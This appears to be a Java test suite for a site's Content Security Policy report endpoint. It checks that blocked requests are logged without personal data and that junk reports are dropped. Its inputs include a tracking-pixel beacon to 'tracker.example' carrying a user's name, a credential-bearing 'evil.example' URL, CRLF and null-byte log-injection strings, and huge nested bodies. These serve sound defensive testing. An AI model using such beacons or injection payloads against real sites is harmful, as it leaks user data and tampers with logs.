package org.kapwa.trust;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.kapwa.Chromium;
import org.kapwa.RunningSite;
import org.slf4j.LoggerFactory;

/// Whoever runs the site hears of what its policy stopped, and of nobody who read (ASVS 3.4.7).
class PolicyReportsTest {

    private final RunningSite site = RunningSite.shared();
    private final Logger log = (Logger) LoggerFactory.getLogger("org.kapwa.web.PolicyReportController");
    private final ListAppender<ILoggingEvent> kept = new ListAppender<>();

    @BeforeEach
    void listen() {
        kept.start();
        log.addAppender(kept);
    }

    @AfterEach
    void stopListening() {
        log.detachAppender(kept);
    }

    @Test
    void whatABrowserStopsIsTold() {
        try (var browser = Chromium.desktop("en")) {
            var page = browser.newPage();
            page.navigate(site.url() + "/library?q=amina-tadesse");
            page.evaluate("new Image().src = 'https://tracker.example:8443/pixel/amina-tadesse.png?who=amina'");

            await().until(() -> !lines().isEmpty());
        }

        assertThat(lines()).containsExactly("policy: directive=img-src blocked=https://tracker.example:8443 page=/library");
    }

    @Test
    void bothWaysOfReportingAreUnderstood() throws Exception {
        var old = post("application/csp-report", """
                {"csp-report": {"violated-directive": "script-src-elem 'self'", "blocked-uri": "inline", "document-uri": "%s/"}}
                """.formatted(site.url()));
        var now = post("application/reports+json", """
                [{"type": "csp-violation", "user_agent": "Secret/1", "url": "%1$s/people/amina",
                  "body": {"effectiveDirective": "connect-src", "blockedURL": "wss://amina:pw@evil.example/x?y=amina",
                           "documentURL": "%1$s/people/amina?q=amina#amina", "sample": "amina", "referrer": "%1$s/amina"}},
                 {"type": "deprecation", "body": {"id": "amina"}}]
                """.formatted(site.url()));

        assertThat(List.of(old.statusCode(), now.statusCode())).containsOnly(204);
        assertThat(lines()).containsExactly(
                "policy: directive=script-src-elem blocked=inline page=/",
                "policy: directive=connect-src blocked=wss://evil.example page=/people/{handle}");
    }

    /// Anybody can send words in the place of a directive, an origin or an address.
    @ParameterizedTest
    @ValueSource(strings = {
        "amina@example.org", "amina", "https://amina example/", "amina:tadesse", "chrome-extension://amina/x.js", "https:///amina",
        "img-src-amina", "/amina/tadesse", "/%amina", "\\r\\namina", "\\u0000amina"
    })
    void noWordOfAnybodyIsLogged(String words) throws Exception {
        var answer = post("application/csp-report", """
                {"csp-report": {"effective-directive": "%1$s", "blocked-uri": "%1$s", "document-uri": "%1$s", "script-sample": "%1$s"}}
                """.formatted(words));

        assertThat(answer.statusCode()).isEqualTo(204);
        assertThat(lines()).singleElement().asString().doesNotContain("amina").endsWith("page=an unknown route");
    }

    static Stream<String> junk() {
        return Stream.of(
                "", "null", "[", "[[[]]]", "{\"csp-report\": []}", "{\"csp-report\": 7}", "[null, 1, {\"body\": 2}]", "\u0000\u00ff", "{\"a\": ".repeat(5_000),
                "[".repeat(30_000), "{\"csp-report\": {\"blocked-uri\": \"" + "x".repeat(3_000_000) + "\"}}");
    }

    @ParameterizedTest
    @MethodSource("junk")
    void whatIsNoReportIsDropped(String body) throws Exception {
        for (var type : List.of("application/csp-report", "application/reports+json", "application/x-www-form-urlencoded", "text/plain")) {
            assertThat(post(type, body).statusCode()).isEqualTo(204);
        }
        assertThat(lines()).isEmpty();
    }

    @Test
    void oneSenderWritesNoMoreThanTenLinesAtOnce() throws Exception {
        var report = "{\"type\": \"csp-violation\", \"body\": {\"blockedURL\": \"eval\"}}";

        post("application/reports+json", "[" + report + ("," + report).repeat(40) + "]");

        assertThat(lines()).hasSize(10);
    }

    /// Browsers send the cookies of the site along.
    @Test
    void aSignedInReadersBrowserNeedsNoToken() {
        var member = site.signedIn(site.member("Meron"));

        assertThat(member.postWithoutToken("/csp-reports").statusCode()).isEqualTo(204);
    }

    private HttpResponse<String> post(String type, String body) throws Exception {
        var request = HttpRequest.newBuilder(URI.create(site.url() + "/csp-reports"))
                .header("Content-Type", type)
                .POST(HttpRequest.BodyPublishers.ofString(body));
        try (var client = HttpClient.newHttpClient()) {
            return client.send(request.build(), HttpResponse.BodyHandlers.ofString());
        }
    }

    private List<String> lines() {
        return List.copyOf(kept.list).stream().map(ILoggingEvent::getFormattedMessage).toList();
    }
}
